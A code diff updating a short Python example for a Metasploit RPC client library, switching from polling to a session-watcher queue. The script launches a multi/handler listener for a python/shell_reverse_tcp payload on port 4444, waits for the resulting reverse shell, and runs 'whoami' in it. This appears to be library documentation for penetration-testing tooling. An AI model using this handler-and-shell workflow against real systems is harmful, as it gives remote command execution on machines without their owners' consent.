@@ -1,24 +1,28 @@
-import time
+from queue import Queue
 
-from snek_sploit import MetasploitClient, ModuleType, SessionInformation
+from snek_sploit import MetasploitClient, ModuleType
 
 
 # Initialize client
 client = MetasploitClient("msf", "root", disable_https_warnings=True)
 
+# Start watching the sessions before executing the module, so no session is missed
+opened_sessions = Queue()
+client.sessions.watcher.add_listener(on_open=opened_sessions.put)
+
 # Execute multi/handler module
 execution = client.modules.rpc.execute(
     ModuleType.EXPLOIT, "multi/handler", {"PAYLOAD": "python/shell_reverse_tcp", "LHOST": "0.0.0.0", "LPORT": 4444}
 )
 
 # Wait for a session
-session_to_match = SessionInformation(exploit_uuid=execution.uuid)
-while (sessions := client.sessions.filter(session_to_match)) is None:
-    time.sleep(1)
+while (event := opened_sessions.get()).info.exploit_uuid != execution.uuid:
+    pass
 
 # Get shell
-shell = client.sessions.get(list(sessions.keys())[-1])
+shell = client.sessions.get(event.session_id)
 
 # Execute in shell
 result = shell.execute("whoami")
 print(result)
+client.close()